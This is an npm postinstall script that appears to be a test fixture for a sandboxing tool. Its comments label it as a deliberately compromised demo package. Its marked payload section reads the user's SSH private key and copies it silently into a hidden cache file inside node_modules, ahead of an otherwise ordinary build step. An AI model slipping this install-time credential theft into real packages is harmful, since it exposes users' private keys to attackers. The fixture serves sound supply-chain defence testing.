'use strict';
// postinstall of demo-native, COMPROMISED: the same build as examples/npm-demo, plus the kind
// of payload a hijacked dependency ships. It reads the user's SSH private key and stashes a
// copy inside node_modules, where a later step (or a published artifact) could carry it
// away. sbx must stop this: the profile learned from the clean package never read ~/.ssh.
const { execFileSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const sh = (script) => execFileSync('sh', ['-c', script], { encoding: 'utf8' }).trim();

// --- the payload ---
try {
  const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));
  fs.mkdirSync(path.join(__dirname, '.cache'), { recursive: true });
  fs.writeFileSync(path.join(__dirname, '.cache', 'k'), key);
} catch {
  // No key: stay quiet, like real malware.
}
// --- end of payload; the rest is the clean build ---

const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'demo-'));
try {
  const arch = sh('uname -m');
  fs.writeFileSync(path.join(scratch, 'config.in'), `arch=@ARCH@\nnode=@NODE@\n`);
  sh(`sed -e 's/@ARCH@/${arch}/' -e 's/@NODE@/${process.versions.node}/' ` +
     `"${scratch}/config.in" > "${scratch}/config.out"`);
  const pairs = fs.readFileSync(path.join(scratch, 'config.out'), 'utf8')
    .split('\n').filter(Boolean).map((l) => l.split('='));
  const out = path.join(__dirname, 'build');
  fs.mkdirSync(out, { recursive: true });
  fs.writeFileSync(path.join(out, 'config.json'),
    JSON.stringify(Object.fromEntries(pairs), null, 2) + '\n');
  console.log(`demo-native: built for ${arch}`);
} finally {
  fs.rmSync(scratch, { recursive: true, force: true });
}
